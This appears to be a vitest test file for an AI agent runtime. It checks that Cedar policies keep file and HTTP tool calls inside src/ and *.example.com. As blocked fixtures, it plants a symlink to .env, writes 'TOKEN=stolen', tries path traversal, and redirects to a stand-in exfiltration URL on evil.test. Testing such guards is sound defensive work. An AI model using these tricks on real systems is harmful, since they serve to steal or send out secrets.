import { once } from 'node:events';
import { existsSync, mkdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { InMemoryTransport } from '@modelcontextprotocol/client';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { loadConfig } from '../../src/config/config.ts';
import type { Authorizer, Decision } from '../../src/policy/authorizer.ts';
import { ToolGate } from '../../src/policy/gate.ts';
import { runToolCall } from '../../src/runtime/tool-runner.ts';
import { createHttpServer } from '../../src/tools/connectors/index.ts';
import { McpConnection } from '../../src/tools/mcp/mcp-connection.ts';
import { mcpTools } from '../../src/tools/mcp/mcp-tool.ts';
import { withOrigin } from '../../src/tools/tool-origin.ts';
import { openToolset, type Toolset } from '../../src/tools/toolset.ts';
import { tempDir } from '../support/temp-dir.ts';
import { policyFor } from './support.ts';

const policies = {
  'files.cedar': `// The agent may read under src/ and write there, never .env (wherever it is).
@id("read-src")
permit (
  principal == Agent::"tester",
  action in [Action::"fs.read", Action::"fs.list", Action::"fs.search"],
  resource in Dir::"src"
);

@id("write-src")
permit (principal, action in [Action::"fs.write", Action::"fs.edit", Action::"fs.move"], resource)
when { resource.path like "src/*" };

@id("never-env")
@reason(".env holds secrets")
forbid (principal, action in [Action::"fs.write", Action::"fs.edit", Action::"fs.move", Action::"fs.delete"], resource)
when { resource is File && resource.name == ".env" };
`,
  'web.cedar': `@id("example-only")
permit (principal, action == Action::"http.fetch", resource)
when { resource.host like "*.example.com" && resource.scheme == "http" };
`,
};

describe('path- and host-scoped policies on the fs and http connectors', () => {
  let dir: string;
  let project: string;
  let toolset: Toolset;
  let web: Server;
  let port: number;
  let gate: ToolGate;
  let connection: McpConnection;
  const decisions: Decision[] = [];

  beforeAll(async () => {
    dir = tempDir();
    project = join(dir, 'project');
    mkdirSync(join(project, 'src'), { recursive: true });
    writeFileSync(join(project, 'src', 'a.ts'), 'export const a = 1;\n');
    writeFileSync(join(project, '.env'), 'TOKEN=keep-me\n');
    writeFileSync(join(project, 'notes.md'), 'private notes\n');
    symlinkSync(join(project, '.env'), join(project, 'src', 'innocent.ts'));

    web = createServer((req, res) => {
      if (req.url === '/go') {
        res.writeHead(302, { location: `http://evil.test:${port}/collect?secret=1` });
        res.end();
        return;
      }
      res.writeHead(200, { 'content-type': 'text/plain' });
      res.end(`hello from ${req.headers.host}`);
    });
    web.listen(0, '127.0.0.1');
    await once(web, 'listening');
    port = (web.address() as AddressInfo).port;

    const connectors = { fs: { roots: [project] } };
    toolset = await openToolset({
      sources: [{ kind: 'server', server: 'fs', tool: '*', ref: 'fs.*' }],
      specPath: join(project, 'agent.yaml'),
      connectors,
      config: loadConfig({ AGENTD_HOME: join(dir, 'home') }),
      cwd: project,
    });
    // The real http connector, with names resolved by a map (no DNS) and loopback allowed.
    const names: Record<string, string> = {
      'api.example.com': '127.0.0.1',
      'evil.test': '127.0.0.1',
      'example.com.evil.test': '127.0.0.1',
    };
    connection = new McpConnection({
      name: 'http',
      config: {
        transport: 'in-memory',
        connect: async () => {
          const [client, server] = InMemoryTransport.createLinkedPair();
          // as agentd sets it up under a policy set: redirects come back, not followed
          await createHttpServer({
            followRedirects: false,
            allowPrivate: true,
            lookup: async (host) => [{ address: names[host] ?? '192.0.2.1', family: 4 }],
          }).connect(server);
          return client;
        },
      },
    });
    const http = (await mcpTools(connection)).map((tool) =>
      withOrigin(tool, { kind: 'connector', server: 'http', tool: 'fetch' }),
    );
    const tools = [...toolset.tools, ...http];
    const authorizer: Authorizer = await policyFor(dir, policies, {
      tools,
      connectors,
      cwd: project,
    });
    gate = new ToolGate(tools, authorizer, async (decision) => {
      decisions.push(decision);
    });
  });

  afterAll(async () => {
    await toolset?.close();
    await connection?.close();
    web?.close();
  });

  let n = 0;
  const call = (name: string, input: Record<string, unknown>) =>
    runToolCall({ id: `c${++n}`, name, input: input as never }, gate, {
      runId: 'run-scoped',
      idempotencyKey: `run-scoped:${n}`,
      signal: new AbortController().signal,
    });

  it('may read and list under src/, nothing else', async () => {
    expect(await call('fs__read', { path: 'src/a.ts' })).toMatchObject({
      isError: false,
      output: expect.stringContaining('export const a = 1;'),
    });
    expect(decisions.at(-1)).toMatchObject({
      resource: 'File::"src/a.ts"',
      policies: ['read-src'],
    });
    expect(await call('fs__list', { path: 'src' })).toMatchObject({ isError: false });
    expect(decisions.at(-1)?.resource).toBe('Dir::"src"');
    const notes = await call('fs__read', { path: './notes.md' });
    expect(notes).toMatchObject({ isError: true, errorKind: 'denied' });
    expect(notes.output).toBe(
      'Denied by policy: no policy permits fs.read on File::"notes.md" (default deny). The call did not run.',
    );
    expect(await call('fs__read', { path: 'src/../notes.md' })).toMatchObject({
      errorKind: 'denied',
    });
  });

  it('may write under src/, and never .env: not by name, not through a symlink, not by moving onto it', async () => {
    expect(
      await call('fs__write', { path: 'src/b.ts', content: 'export const b = 2;\n' }),
    ).toMatchObject({
      isError: false,
    });
    expect(readFileSync(join(project, 'src', 'b.ts'), 'utf8')).toBe('export const b = 2;\n');

    const direct = await call('fs__write', { path: '.env', content: 'TOKEN=stolen\n' });
    expect(direct).toMatchObject({ errorKind: 'denied' });
    expect(direct.output).toMatch(/forbidden by never-env: \.env holds secrets/);
    const linked = await call('fs__write', { path: 'src/innocent.ts', content: 'TOKEN=stolen\n' });
    expect(linked).toMatchObject({ errorKind: 'denied' });
    expect(decisions.at(-1)).toMatchObject({ resource: 'File::".env"', policies: ['never-env'] });
    const moved = await call('fs__move', { from: 'src/b.ts', to: '.env', overwrite: true });
    expect(moved).toMatchObject({ errorKind: 'denied' });
    expect(decisions.at(-1)?.resource).toBe('File::"src/b.ts", File::".env"');
    expect(readFileSync(join(project, '.env'), 'utf8')).toBe('TOKEN=keep-me\n');
    expect(existsSync(join(project, 'src', 'b.ts'))).toBe(true);

    const outside = await call('fs__write', { path: '../escape.txt', content: 'x' });
    expect(outside).toMatchObject({ errorKind: 'denied' });
    expect(outside.output).toMatch(
      /cannot tell what the call touches: path "\.\.\/escape\.txt" leads outside/,
    );
  });

  it('may fetch only from *.example.com', async () => {
    const ok = await call('http__fetch', { url: `http://api.example.com:${port}/hello` });
    expect(ok).toMatchObject({ isError: false });
    expect(ok.output).toContain(`hello from api.example.com:${port}`);
    expect(decisions.at(-1)).toMatchObject({
      action: 'http.fetch',
      resource: 'Host::"api.example.com"',
      decision: 'allow',
    });
    for (const host of ['evil.test', 'example.com.evil.test']) {
      const refused = await call('http__fetch', { url: `http://${host}:${port}/` });
      expect(refused, host).toMatchObject({ errorKind: 'denied' });
      expect(refused.output).toMatch(
        new RegExp(`no policy permits http\\.fetch on Host::"${host.replaceAll('.', '\\.')}"`),
      );
    }
    expect(await call('http__fetch', { url: 'not a url' })).toMatchObject({ errorKind: 'denied' });
  });

  it('a permitted host cannot redirect past the policies: the redirect comes back, its target is a new call', async () => {
    const hop = await call('http__fetch', { url: `http://api.example.com:${port}/go` });
    expect(hop).toMatchObject({ isError: false });
    expect(hop.output).toMatch(/^HTTP 302 Found/);
    expect(hop.output).toContain(`location: http://evil.test:${port}/collect?secret=1`);
    const next = await call('http__fetch', { url: `http://evil.test:${port}/collect?secret=1` });
    expect(next).toMatchObject({ errorKind: 'denied' });
  });
});
